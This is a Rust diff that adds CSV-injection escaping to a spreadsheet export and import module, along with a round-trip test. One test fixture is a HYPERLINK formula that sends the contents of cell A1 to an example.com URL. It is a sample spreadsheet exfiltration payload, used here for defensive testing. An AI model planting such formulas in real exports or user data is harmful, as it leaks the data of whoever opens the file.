@@ -246,7 +246,7 @@ fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableErro
                 }
                 let row = breaks_before.saturating_sub(embedded_breaks);
                 for (col, cell) in record.iter().enumerate() {
-                    place(&mut table, row, col, cell.to_string(), max_rows)?;
+                    place(&mut table, row, col, unescape_formula(cell), max_rows)?;
                     embedded_breaks += cell.matches('\n').count();
                 }
             }
@@ -254,6 +254,30 @@ fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableErro
         }
     }
     Ok(table)
+}
+
+/// The first characters that make Excel and WPS read a CSV cell as a formula.
+const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as written to CSV: one that would start a formula gets a leading
+/// apostrophe, so a name such as `=HYPERLINK(…)` typed by one user is not run
+/// by the spreadsheet of another who opens an export (CSV injection). Text that
+/// starts with an apostrophe gets one more, so [`unescape_formula`] restores it.
+fn escape_formula(s: &str) -> String {
+    if s.starts_with(FORMULA_LEADS) || s.starts_with('\'') {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    }
+}
+
+/// A CSV cell as read: the apostrophe [`escape_formula`] added is dropped again,
+/// so an exported file imports unchanged.
+fn unescape_formula(cell: &str) -> String {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_LEADS) || rest.starts_with('\'') => rest.to_string(),
+        _ => cell.to_string(),
+    }
 }
 
 // ---- XLSX ----
@@ -508,6 +532,7 @@ pub fn write_xlsx_with_notes(
 }
 
 /// A CSV in UTF-8 with a BOM, so Excel in China opens the Chinese correctly.
+/// Text that would start a formula is escaped ([`escape_formula`]).
 pub fn write_csv(headers: &[Header], rows: &[Vec<Cell>]) -> Vec<u8> {
     let mut out = b"\xEF\xBB\xBF".to_vec();
     {
@@ -517,7 +542,10 @@ pub fn write_csv(headers: &[Header], rows: &[Vec<Cell>]) -> Vec<u8> {
         // Writing to a Vec cannot fail.
         let _ = w.write_record(headers.iter().map(|h| h.title.as_str()));
         for row in rows {
-            let _ = w.write_record(row.iter().map(Cell::text));
+            let _ = w.write_record(row.iter().map(|c| match c {
+                Cell::Text(s) => escape_formula(s),
+                other => other.text(),
+            }));
         }
         let _ = w.flush();
     }
@@ -665,6 +693,52 @@ mod tests {
         let csv = write_csv(&headers, &rows);
         assert!(csv.starts_with(b"\xEF\xBB\xBF"));
         assert_eq!(read_table("e.csv", &csv, 10).unwrap(), t);
+    }
+
+    #[test]
+    fn csv_exports_escape_formulas_and_read_them_back_as_text() {
+        let headers = [
+            Header {
+                title: "名称".into(),
+                width: 10.0,
+                text: false,
+            },
+            Header {
+                title: "排序号".into(),
+                width: 10.0,
+                text: false,
+            },
+        ];
+        let names = [
+            "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "'=已经带引号",
+            "普通公司 = 好",
+        ];
+        let rows: Vec<Vec<Cell>> = names
+            .iter()
+            .map(|n| vec![Cell::Text(n.to_string()), Cell::Int(-2)])
+            .collect();
+        let csv = write_csv(&headers, &rows);
+        let text = String::from_utf8(csv.clone()).unwrap();
+        assert!(text.contains("\"'=HYPERLINK("), "{text}");
+        assert!(
+            text.contains("\r\n'+1+2,-2\r\n"),
+            "numbers stay numbers: {text}"
+        );
+        assert!(text.contains("\r\n'@SUM(A1),"), "{text}");
+        assert!(text.contains("\r\n普通公司 = 好,"), "{text}");
+        assert!(text.contains("\r\n''=已经带引号,"), "{text}");
+        let back = read_table("e.csv", &csv, 10).unwrap();
+        let got: Vec<&str> = back[1..].iter().map(|r| r[0].as_str()).collect();
+        assert_eq!(got, names);
+        assert!(back[1..].iter().all(|r| r[1] == "-2"));
+        // Files from elsewhere keep a lone apostrophe.
+        let t = read_table("x.csv", "名称,地址\r\n'甲,'=1\r\n".as_bytes(), 10).unwrap();
+        assert_eq!(t[1], ["'甲", "=1"]);
     }
 
     #[test]
